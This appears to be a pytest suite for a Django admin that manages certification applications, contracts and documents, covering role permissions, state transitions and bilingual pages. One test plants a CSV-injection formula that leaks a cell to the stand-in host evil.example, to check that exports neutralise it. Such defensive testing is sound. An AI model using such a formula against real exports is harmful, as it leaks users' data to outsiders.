"""Customer service's admin: applications move only through their actions (§3.1)."""

import datetime
import re
from decimal import Decimal

import pytest
from django.contrib.messages import get_messages
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from applications import services
from applications.models import Application, ApplicationDocument, Contract, Organization
from applications.tests.factories import (
    ApplicationFactory,
    OrganizationFactory,
    UserFactory,
    complete_documents,
    pdf_upload,
)
from cesi_cert.models import TransitionLog
from cesi_cert.roles import Role

# --- helpers and fixtures -------------------------------------------------------------------------


def client_for(user, language="en"):
    client = Client(HTTP_ACCEPT_LANGUAGE=language)
    client.force_login(user)
    return client


def change_url(app):
    return reverse("admin:applications_application_change", args=[app.pk])


def transition_url(app, name):
    return reverse("admin:applications_application_transition", args=[app.pk, name])


def buttons(response) -> set[str]:
    return set(re.findall(r'data-transition="(\w+)"', response.content.decode()))


def messages_of(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


def log_rows(app):
    return list(TransitionLog.objects.filter(object_id=app.pk).order_by("pk"))


@pytest.fixture
def superuser(db):
    return UserFactory(username="root", is_staff=True, is_superuser=True)


@pytest.fixture
def cs(cs_staff):
    return client_for(cs_staff)


@pytest.fixture
def business(business_staff):
    return client_for(business_staff)


def refreshed(app):
    return Application.objects.get(pk=app.pk)


# --- the change page shows the buttons the user may run -------------------------------------------


def test_submitted_application_shows_start_review_to_customer_service(cs, submitted):
    response = cs.get(change_url(submitted))
    assert response.status_code == 200
    assert "start_review" in buttons(response)
    assert "Start review" in response.content.decode()


def test_certification_business_sees_no_transition_buttons(business, submitted):
    response = business.get(change_url(submitted))
    assert response.status_code == 200
    assert buttons(response) == set()
    assert 'id="transition-buttons"' not in response.content.decode()


def test_draft_shows_no_buttons_to_staff(cs, business, draft):
    # Submitting is the applicant's (§3.1.3); a draft is not yet handed in, so staff have
    # nothing to review or withdraw.
    assert buttons(cs.get(change_url(draft))) == set()
    assert buttons(business.get(change_url(draft))) == set()


def test_change_page_is_read_only_with_documents_review_and_timeline(cs, cs_staff, under_review):
    services.application_request_changes(
        application=under_review, by=cs_staff, changes="补充资质证书"
    )
    doc = under_review.documents.first()
    html = cs.get(change_url(under_review)).content.decode()
    # Nothing edits the application directly: no save buttons, no inputs for its fields.
    assert 'name="_save"' not in html
    assert 'name="scope"' not in html
    # Documents with a download link that works for staff.
    assert reverse("portal:document_download", args=[doc.pk]) in html
    # §3.1.4 review findings and the requested changes.
    assert "Review (§3.1.4)" in html
    assert "补充资质证书" in html
    # Timeline: who, from → to, reason.
    timeline = html.split('id="timeline"', 1)[1]
    assert "Submitted → Under review" in timeline
    assert "Under review → Changes requested" in timeline
    assert "kefu" in timeline
    assert "补充资质证书" in timeline


def test_contract_and_amendments_show_on_the_application(cs, cs_staff, contracted):
    services.contract_amend(
        contract=contracted.contract,
        by=cs_staff,
        signed_on=datetime.date(2026, 2, 1),
        description="增加一个网点",
        man_days=Decimal("5.0"),
        fee_quote=Decimal("36000.00"),
    )
    html = cs.get(change_url(contracted)).content.decode()
    assert f"HT-{contracted.reference}" in html
    assert "增加一个网点" in html
    assert buttons(cs.get(change_url(contracted))) == set()  # contracted is final


# --- each staff transition through the admin --------------------------------------------------


def test_start_review_through_the_admin(cs, cs_staff, submitted):
    response = cs.post(transition_url(submitted, "start_review"), {"reason": "开始审核"})
    assert response.status_code == 302
    assert response["Location"] == change_url(submitted)
    app = refreshed(submitted)
    assert app.state == Application.State.UNDER_REVIEW
    assert app.reviewer == cs_staff
    last = log_rows(app)[-1]
    assert (last.transition, last.actor, last.reason) == ("start_review", cs_staff, "开始审核")
    assert any("Under review" in m for m in messages_of(response))


def test_request_changes_requires_the_changes(cs, cs_staff, under_review):
    response = cs.post(transition_url(under_review, "request_changes"), {"changes": ""})
    assert response.status_code == 200
    assert "changes" in response.context["form"].errors
    assert refreshed(under_review).state == Application.State.UNDER_REVIEW

    response = cs.post(
        transition_url(under_review, "request_changes"), {"changes": "请补充服务网点清单"}
    )
    assert response.status_code == 302
    app = refreshed(under_review)
    assert app.state == Application.State.CHANGES_REQUESTED
    assert app.requested_changes == "请补充服务网点清单"
    last = log_rows(app)[-1]
    assert (last.transition, last.actor, last.reason) == (
        "request_changes",
        cs_staff,
        "请补充服务网点清单",
    )


@pytest.mark.parametrize(
    ("data", "error_field"),
    [
        ({"cb_capable": "on"}, "requirements_clear"),
        ({"requirements_clear": "on"}, "cb_capable"),
    ],
)
def test_accept_needs_both_review_findings_of_3_1_4(cs, under_review, data, error_field):
    response = cs.post(transition_url(under_review, "accept"), data)
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert error_field in errors
    assert "§3.1.4" in errors[error_field][0]
    assert f'class="form-row errors field-{error_field}"' in response.content.decode()
    assert refreshed(under_review).state == Application.State.UNDER_REVIEW


def test_accept_with_both_findings(cs, cs_staff, under_review):
    response = cs.post(
        transition_url(under_review, "accept"),
        {"requirements_clear": "on", "cb_capable": "on", "notes": "范围清晰"},
    )
    assert response.status_code == 302
    app = refreshed(under_review)
    assert app.state == Application.State.ACCEPTED
    assert (app.requirements_clear, app.cb_capable, app.review_notes) == (True, True, "范围清晰")
    last = log_rows(app)[-1]
    assert (last.transition, last.actor, last.reason) == ("accept", cs_staff, "范围清晰")


def test_reject_requires_reasons(cs, cs_staff, under_review):
    response = cs.post(transition_url(under_review, "reject"), {"reasons": "  "})
    assert response.status_code == 200
    assert "reasons" in response.context["form"].errors
    assert refreshed(under_review).state == Application.State.UNDER_REVIEW

    response = cs.post(transition_url(under_review, "reject"), {"reasons": "超出本机构认证范围"})
    assert response.status_code == 302
    app = refreshed(under_review)
    assert app.state == Application.State.REJECTED
    assert app.rejection_reason == "超出本机构认证范围"
    last = log_rows(app)[-1]
    assert (last.transition, last.actor, last.reason) == ("reject", cs_staff, "超出本机构认证范围")


def test_sign_contract_creates_the_contract(cs, cs_staff, accepted):
    today = timezone.localdate()
    response = cs.post(
        transition_url(accepted, "sign_contract"),
        {"number": "", "signed_on": today.isoformat(), "man_days": "4.5", "fee_quote": "32000"},
    )
    assert response.status_code == 302
    app = refreshed(accepted)
    assert app.state == Application.State.CONTRACTED
    contract = Contract.objects.get(application=app)
    assert contract.number == f"HT-{app.reference}"
    assert (contract.man_days, contract.fee_quote, contract.signed_on) == (
        Decimal("4.5"),
        Decimal("32000"),
        today,
    )
    assert contract.signed_by == cs_staff
    last = log_rows(app)[-1]
    assert (last.transition, last.actor) == ("sign_contract", cs_staff)


def test_sign_contract_refuses_a_used_number_on_the_field(cs, accepted):
    other = ApplicationFactory(state=Application.State.CONTRACTED)
    Contract.objects.create(
        application=other,
        number="HT-2026-001",
        signed_on=datetime.date(2026, 1, 1),
        man_days=2,
        fee_quote=1000,
        signed_by=other.created_by,
    )
    response = cs.post(
        transition_url(accepted, "sign_contract"),
        {"number": "HT-2026-001", "signed_on": "2026-01-05", "man_days": "4", "fee_quote": "30000"},
    )
    assert response.status_code == 200
    assert "number" in response.context["form"].errors
    assert refreshed(accepted).state == Application.State.ACCEPTED


def test_staff_withdrawal_needs_the_reason(cs, cs_staff, submitted):
    response = cs.post(transition_url(submitted, "withdraw"), {"reason": ""})
    assert response.status_code == 200
    assert "reason" in response.context["form"].errors
    assert refreshed(submitted).state == Application.State.SUBMITTED

    response = cs.post(transition_url(submitted, "withdraw"), {"reason": "申请方书面撤回（来函）"})
    assert response.status_code == 302
    app = refreshed(submitted)
    assert app.state == Application.State.WITHDRAWN
    last = log_rows(app)[-1]
    assert (last.transition, last.actor, last.reason) == (
        "withdraw",
        cs_staff,
        "申请方书面撤回（来函）",
    )


def test_transition_in_the_wrong_state_is_a_message_not_a_500(cs, submitted):
    before = len(log_rows(submitted))
    response = cs.post(
        transition_url(submitted, "accept"), {"requirements_clear": "on", "cb_capable": "on"}
    )
    assert response.status_code == 302
    assert response["Location"] == change_url(submitted)
    assert messages_of(response)
    assert refreshed(submitted).state == Application.State.SUBMITTED
    assert len(log_rows(submitted)) == before


def test_certification_business_cannot_post_a_transition(business, submitted):
    before = len(log_rows(submitted))
    for method in ("get", "post"):
        response = getattr(business, method)(transition_url(submitted, "start_review"))
        assert response.status_code == 302
        assert "Your role cannot run “Start review”." in messages_of(response)
    assert refreshed(submitted).state == Application.State.SUBMITTED
    assert len(log_rows(submitted)) == before


def test_unknown_action_is_a_message(cs, submitted):
    response = cs.post(transition_url(submitted, "approve_everything"))
    assert response.status_code == 302
    assert refreshed(submitted).state == Application.State.SUBMITTED


def test_transition_form_page_renders_the_action_form(cs, under_review):
    response = cs.get(transition_url(under_review, "accept"))
    assert response.status_code == 200
    html = response.content.decode()
    assert 'name="requirements_clear"' in html and 'name="cb_capable"' in html
    assert "§3.1.4" in html  # the action's help text
    assert refreshed(under_review).state == Application.State.UNDER_REVIEW


# --- simple-history's revert cannot move the state ----------------------------------------------


@pytest.mark.parametrize("user_fixture", ["cs_staff", "superuser"])
def test_history_revert_does_not_change_state(request, under_review, user_fixture):
    client = client_for(request.getfixturevalue(user_fixture))
    old = under_review.history.filter(state=Application.State.SUBMITTED).earliest("history_date")
    url = reverse(
        "admin:applications_application_simple_history", args=[under_review.pk, old.history_id]
    )
    history_rows = under_review.history.count()

    get = client.get(url)
    post = client.post(url, {"state": "submitted", "scope": "改写的范围"})

    for response in (get, post):
        assert response.status_code == 302
        assert response["Location"] == reverse(
            "admin:applications_application_history", args=[under_review.pk]
        )
    app = refreshed(under_review)
    assert app.state == Application.State.UNDER_REVIEW
    assert app.scope == under_review.scope
    assert app.history.count() == history_rows


def test_history_list_stays_readable_without_revert_links(cs, under_review):
    response = cs.get(reverse("admin:applications_application_history", args=[under_review.pk]))
    assert response.status_code == 200
    assert f"/history/{under_review.history.first().history_id}/" not in response.content.decode()


# --- the changelist ----------------------------------------------------------------------------


def test_changelist_filters_and_search_with_bounded_queries(
    cs, cs_staff, django_assert_max_num_queries
):
    orgs = [OrganizationFactory() for _ in range(4)]
    apps = [ApplicationFactory(organization=orgs[i % 4], created_by=cs_staff) for i in range(20)]
    url = reverse("admin:applications_application_changelist")
    target = apps[5]
    queries = [
        {},
        {"state__exact": "draft", "kind__exact": "initial"},
        {"scheme__id__exact": str(target.scheme_id)},
        {"q": target.reference},
        {"q": target.organization.credit_code.lower()},
        {"q": target.organization.name_zh},
        {"created_at__year": str(target.created_at.year)},
    ]
    for params in queries:
        # 12 today, whatever the number of rows; an N+1 over 20 rows would be 30 or more.
        with django_assert_max_num_queries(14):
            response = cs.get(url, params)
        assert response.status_code == 200, params

    response = cs.get(url, {"q": target.reference})
    assert response.context["cl"].result_count == 1
    response = cs.get(url, {"q": target.organization.credit_code})
    assert response.context["cl"].result_count == 5
    response = cs.get(url, {"state__exact": "submitted"})
    assert response.context["cl"].result_count == 0


def test_changelist_has_no_add_no_delete(cs, superuser, draft):
    root = client_for(superuser)
    changelist = root.get(reverse("admin:applications_application_changelist"))
    assert changelist.status_code == 200
    assert "delete_selected" not in changelist.content.decode()
    assert root.get(reverse("admin:applications_application_add")).status_code == 403
    assert (
        root.get(reverse("admin:applications_application_delete", args=[draft.pk])).status_code
        == 403
    )
    assert Application.objects.filter(pk=draft.pk).exists()


# --- contracts ---------------------------------------------------------------------------------


def amend_url(contract):
    return reverse("admin:applications_contract_amend", args=[contract.pk])


def test_contract_amendments_update_the_contract_and_are_numbered(cs, contracted):
    contract = contracted.contract
    page = cs.get(reverse("admin:applications_contract_change", args=[contract.pk]))
    assert amend_url(contract) in page.content.decode()

    for days, fee in (("5.0", "36000"), ("6.5", "41000")):
        response = cs.post(
            amend_url(contract),
            {
                "signed_on": "2026-02-01",
                "description": "扩大范围",
                "man_days": days,
                "fee_quote": fee,
            },
        )
        assert response.status_code == 302

    contract.refresh_from_db()
    assert (contract.man_days, contract.fee_quote) == (Decimal("6.5"), Decimal("41000"))
    amendments = list(
        contract.amendments.values_list("sequence", "man_days_before", "man_days_after")
    )
    assert amendments == [(1, Decimal("4.0"), Decimal("5.0")), (2, Decimal("5.0"), Decimal("6.5"))]


def test_amendment_form_errors_and_refusals(cs, business, contracted):
    contract = contracted.contract
    response = cs.post(
        amend_url(contract),
        {"signed_on": "2025-01-01", "description": "提前", "man_days": "5", "fee_quote": "1"},
    )
    assert response.status_code == 200
    assert "signed_on" in response.context["form"].errors  # before the contract itself

    response = business.post(
        amend_url(contract),
        {"signed_on": "2026-02-01", "description": "越权", "man_days": "9", "fee_quote": "1"},
    )
    assert response.status_code == 302
    assert not contract.amendments.exists()
    contract.refresh_from_db()
    assert contract.man_days == Decimal("4.0")


# --- staff documents ---------------------------------------------------------------------------


def test_customer_service_adds_an_internal_document(cs, cs_staff, under_review):
    url = reverse("admin:applications_application_document_upload", args=[under_review.pk])
    assert url in cs.get(change_url(under_review)).content.decode()
    response = cs.post(
        url, {"kind": "other", "file": pdf_upload("审核记录.pdf"), "description": "评审记录"}
    )
    assert response.status_code == 302
    doc = ApplicationDocument.objects.get(application=under_review, description="评审记录")
    assert (doc.uploaded_by, doc.published, doc.original_name) == (cs_staff, False, "审核记录.pdf")


def test_no_staff_upload_on_a_closed_application(cs, contracted):
    url = reverse("admin:applications_application_document_upload", args=[contracted.pk])
    assert url not in cs.get(change_url(contracted)).content.decode()
    before = contracted.documents.count()
    response = cs.post(url, {"kind": "other", "file": pdf_upload()})
    assert response.status_code == 302
    assert contracted.documents.count() == before


# --- other screens, in both languages ----------------------------------------------------------


@pytest.mark.parametrize(("language", "log_out"), [("zh-hans", "注销"), ("en", "Log out")])
def test_admin_pages_render_in_chinese_and_english(
    superuser, cs_staff, contracted, language, log_out
):
    complete_documents(ApplicationFactory(organization=contracted.organization))
    doc = contracted.documents.first()
    org = contracted.organization
    pages = [
        reverse("admin:index"),
        reverse("admin:applications_application_changelist"),
        change_url(contracted),
        reverse("admin:applications_application_history", args=[contracted.pk]),
        reverse("admin:applications_scheme_changelist"),
        reverse("admin:applications_scheme_change", args=[contracted.scheme_id]),
        reverse("admin:applications_organization_changelist"),
        reverse("admin:applications_organization_change", args=[org.pk]),
        reverse("admin:applications_applicationdocument_changelist"),
        reverse("admin:applications_applicationdocument_change", args=[doc.pk]),
        reverse("admin:applications_contract_changelist"),
        reverse("admin:applications_contract_change", args=[contracted.contract.pk]),
        amend_url(contracted.contract),
        reverse("admin:cesi_cert_transitionlog_changelist"),
        reverse("admin:cesi_cert_notification_changelist"),
        reverse("admin:cesi_cert_user_changelist"),
        reverse("admin:cesi_cert_user_change", args=[cs_staff.pk]),
        reverse("admin:cesi_cert_user_add"),
    ]
    client = client_for(superuser, language)
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert f'lang="{language}"' in html, url
        assert log_out in html, url


def test_transition_form_renders_in_chinese(cs_staff, under_review):
    response = client_for(cs_staff, "zh-hans").get(transition_url(under_review, "accept"))
    assert response.status_code == 200
    assert "首页" in response.content.decode()


def test_scheme_levels_are_checked(superuser):
    from applications.models import Scheme

    scheme = Scheme.objects.get(code="after-sales")
    url = reverse("admin:applications_scheme_change", args=[scheme.pk])
    data = {
        "name_zh": scheme.name_zh,
        "name_en": scheme.name_en,
        "is_active": "on",
        "standards": scheme.standards,
        "implementation_rule": "",
        "levels": '[{"code": "1", "name_zh": "一级"}]',
        "evaluation_modes": ["management_audit"],
        "validity_years": "3",
        "surveillance_interval_months": "12",
        "base_man_days": "2.5",
    }
    client = client_for(superuser)
    response = client.post(url, data)
    assert response.status_code == 200
    assert "levels" in response.context["adminform"].form.errors

    data["levels"] = '[{"code": "1", "name_zh": "一级", "name_en": "Level 1"}]'
    assert client.post(url, data).status_code == 302
    scheme.refresh_from_db()
    assert scheme.levels == [{"code": "1", "name_zh": "一级", "name_en": "Level 1"}]
    assert scheme.evaluation_modes == ["management_audit"]
    assert scheme.base_man_days == Decimal("2.5")
    assert scheme.code == "after-sales"


def test_organization_search_and_part_of_legal_entity_rule(cs_staff, org):
    client = client_for(cs_staff)
    changelist = reverse("admin:applications_organization_changelist")
    response = client.get(changelist, {"q": org.credit_code})
    assert response.context["cl"].result_count == 1

    # The change page is read-only; "edit details" calls services.organization_update.
    url = reverse("admin:applications_organization_edit", args=[org.pk])
    data = {
        "name_zh": org.name_zh,
        "name_en": org.name_en,
        "credit_code": org.credit_code.lower(),
        "applicant_type": "provider",
        "address_zh": org.address_zh,
        "address_en": org.address_en,
        "part_of_legal_entity": "on",
        "parent_entity_name": "",
        "contact_name": "李四",
        "contact_phone": "010-12345671",
        "contact_email": "li@example.cn",
    }
    response = client.post(url, data)
    assert response.status_code == 200
    assert "parent_entity_name" in response.context["adminform"].form.errors  # §2.2 a

    data["parent_entity_name"] = "某集团有限公司"
    data["independent_liability_evidence"] = pdf_upload("liability.pdf")  # §2.2 a
    assert client.post(url, data).status_code == 302
    org = Organization.objects.get(pk=org.pk)
    assert (org.contact_name, org.parent_entity_name) == ("李四", "某集团有限公司")
    assert org.credit_code == data["credit_code"].upper()


def test_site_of_a_submitted_application_cannot_be_deleted_in_the_admin(superuser, submitted):
    # Customer service has no delete permission on sites; even a superuser keeps this rule.
    org = submitted.organization
    site = submitted.sites.get()
    client = client_for(superuser)
    url = reverse("admin:applications_organization_site_delete", args=[org.pk])
    response = client.post(f"{url}?site={site.pk}", follow=True)
    assert response.status_code == 200
    assert "already handed in" in response.content.decode()
    assert org.sites.filter(pk=site.pk).exists()


def test_organization_evidence_is_downloaded_through_the_admin(cs_staff, business_staff, org):
    from django.core.files.base import ContentFile

    from applications.tests.factories import PDF_BYTES

    org.legal_status_evidence.save("licence.pdf", ContentFile(PDF_BYTES))
    page = client_for(cs_staff).get(
        reverse("admin:applications_organization_change", args=[org.pk])
    )
    url = reverse(
        "admin:applications_organization_evidence", args=[org.pk, "legal_status_evidence"]
    )
    html = page.content.decode()
    assert url in html
    assert "/no-public-url/" not in html  # private files have no public URL
    response = client_for(business_staff).get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF_BYTES
    assert "attachment" in response["Content-Disposition"]
    missing = reverse(
        "admin:applications_organization_evidence", args=[org.pk, "independent_liability_evidence"]
    )
    assert client_for(cs_staff).get(missing).status_code == 404


# --- cesi_cert screens: users, the transition log, notifications -------------------------------


def test_transition_log_is_read_only_for_staff(cs_staff, under_review):
    client = client_for(cs_staff)
    changelist = client.get(
        reverse("admin:cesi_cert_transitionlog_changelist"), {"transition": "start_review"}
    )
    assert changelist.status_code == 200
    assert changelist.context["cl"].result_count == 1
    log = TransitionLog.objects.get(transition="start_review")
    page = client.get(reverse("admin:cesi_cert_transitionlog_change", args=[log.pk]))
    assert page.status_code == 200
    assert 'name="_save"' not in page.content.decode()
    assert change_url(under_review) in page.content.decode()  # link to the subject
    assert client.get(reverse("admin:cesi_cert_transitionlog_add")).status_code == 403
    delete = reverse("admin:cesi_cert_transitionlog_delete", args=[log.pk])
    assert client.post(delete, {"post": "yes"}).status_code == 403
    assert TransitionLog.objects.filter(pk=log.pk).exists()


def test_users_are_filtered_by_role_and_show_the_phone(superuser, cs_staff, business_staff):
    from django.contrib.auth.models import Group

    cs_staff.phone = "13800000000"
    cs_staff.save()
    group = Group.objects.get(name="customer_service")
    response = client_for(superuser).get(
        reverse("admin:cesi_cert_user_changelist"), {"groups__id__exact": group.pk}
    )
    assert response.status_code == 200
    assert [u.username for u in response.context["cl"].result_list] == ["kefu"]
    assert "13800000000" in response.content.decode()


def test_notifications_are_not_editable(superuser, cs_staff):
    from cesi_cert.models import Notification

    note = Notification.objects.create(recipient=cs_staff, message="新申请")
    client = client_for(superuser)
    page = client.get(reverse("admin:cesi_cert_notification_change", args=[note.pk]))
    assert page.status_code == 200
    assert 'name="_save"' not in page.content.decode()
    assert client.get(reverse("admin:cesi_cert_notification_add")).status_code == 403


def test_admin_home_is_a_work_queue_oldest_first(cs, cs_staff, org, applicant):
    """What waits for the CB, oldest first, with its age in days and who has it; counts per
    state, "assigned to me" and what waits for applicants; times in Beijing time."""
    import time_machine

    from applications.tests.factories import application_in

    def at(day, hour=9):
        return time_machine.travel(
            datetime.datetime(2026, 11, day, hour, tzinfo=datetime.UTC), tick=False
        )

    walk = {"organization": org, "applicant": applicant, "staff": cs_staff}
    with at(1, 1):  # 09:00 in Beijing
        oldest = application_in(Application.State.SUBMITTED, **walk)
    with at(10):
        mine = application_in(Application.State.UNDER_REVIEW, **walk)
    with at(20):
        newest = application_in(Application.State.SUBMITTED, **walk)
        application_in(Application.State.CHANGES_REQUESTED, **walk)
        application_in(Application.State.DRAFT, **walk)
        application_in(Application.State.CONTRACTED, **walk)
    with at(26, 1):
        html = cs.get(reverse("admin:index")).content.decode()

    order = [int(pk) for pk in re.findall(r'<tr data-application="(\d+)"', html)]
    assert order == [oldest.pk, mine.pk, newest.pk]
    days = dict(re.findall(r'<tr data-application="(\d+)".*?data-days="(\d+)"', html, re.S))
    assert days == {str(oldest.pk): "25", str(mine.pk): "15", str(newest.pk): "5"}
    assert "2026-11-01 09:00" in html  # Beijing time, not UTC
    counts = dict(re.findall(r'<a data-state="(\w+)".*?<strong>(\d+)</strong>', html, re.S))
    assert counts == {"submitted": "2", "under_review": "1", "accepted": "0"}
    assert re.search(r'data-queue="mine".*?<strong>1</strong>', html, re.S)
    assert re.search(r'data-queue="with-applicants".*?<strong>1</strong>', html, re.S)
    assert "?assigned=mine" in html and "?state__exact=submitted" in html
    assert "最近动作" not in html and "Recent actions" not in html


def test_the_mine_filter_lists_what_is_assigned_to_me(cs, cs_staff, org, applicant):
    from applications.tests.factories import UserFactory, application_in

    colleague = UserFactory(role=Role.CUSTOMER_SERVICE)
    mine = application_in(Application.State.UNDER_REVIEW, staff=cs_staff)
    theirs = application_in(Application.State.UNDER_REVIEW, staff=colleague)
    html = cs.get(reverse("admin:applications_application_changelist") + "?assigned=mine")
    html = html.content.decode()
    assert mine.reference in html and theirs.reference not in html
    assert (cs_staff.get_full_name() or cs_staff.username) in html  # by name, not by id


def test_publishing_a_cb_document_makes_it_visible_and_tells_the_applicant(
    cs, business, cs_staff, applicant, submitted
):
    from applications.selectors import documents_for
    from applications.tests.factories import pdf_upload
    from cesi_cert.models import Notification

    doc = services.document_upload(
        application=submitted, by=cs_staff, kind="other", file=pdf_upload("评审记录.pdf")
    )
    assert doc not in documents_for(applicant)
    url = reverse("admin:applications_applicationdocument_changelist")
    data = {"action": "publish", "_selected_action": [doc.pk]}
    # Certification business sees the list but may not publish.
    business.post(url, data)
    doc.refresh_from_db()
    assert doc.published is False
    response = cs.post(url, data, follow=True)
    assert response.status_code == 200
    doc.refresh_from_db()
    assert doc.published is True
    assert doc in documents_for(applicant)
    assert Notification.objects.filter(
        recipient=applicant, message__contains="评审记录.pdf"
    ).exists()
    assert doc.history.first().history_user == cs_staff


def test_customer_service_exports_applications_for_excel(cs, org, applicant, contracted):
    from applications.tests.factories import ApplicationFactory

    draft = ApplicationFactory(organization=org, created_by=applicant)
    url = reverse("admin:applications_application_changelist")
    response = cs.post(url, {"action": "export_csv", "_selected_action": [contracted.pk, draft.pk]})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[0].startswith("Reference,Organisation,Unified social credit code")
    assert len(lines) == 3
    contracted_row = next(line for line in lines if line.startswith(contracted.reference))
    assert contracted.contract.number in contracted_row
    assert org.credit_code in contracted_row


def test_the_export_never_writes_a_live_formula(cs, org, applicant):
    """OWASP CSV injection: an organisation named like a formula reaches Excel as plain text."""
    import csv
    import io

    from applications.tests.factories import ApplicationFactory

    org.name_zh = '=HYPERLINK("https://evil.example/?leak="&C3,"点此查看")'
    org.save()
    app = ApplicationFactory(organization=org, created_by=applicant)
    url = reverse("admin:applications_application_changelist")
    response = cs.post(url, {"action": "export_csv", "_selected_action": [app.pk]})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    assert rows[1][1] == "'" + org.name_zh


def test_staff_see_a_staff_action_not_the_applicants_withdraw_button(cs, cs_staff):
    """Staff record a withdrawal the applicant asked for; the applicant's red button is theirs."""
    from applications.tests.factories import application_in

    app = application_in(Application.State.SUBMITTED, staff=cs_staff)
    html = cs.get(change_url(app)).content.decode()
    button = re.search(r'<a[^>]*data-transition="withdraw"[^>]*>(.*?)</a>', html, re.S)
    assert button and "Record the applicant" in button.group(1)
    assert "danger" not in button.group(0)
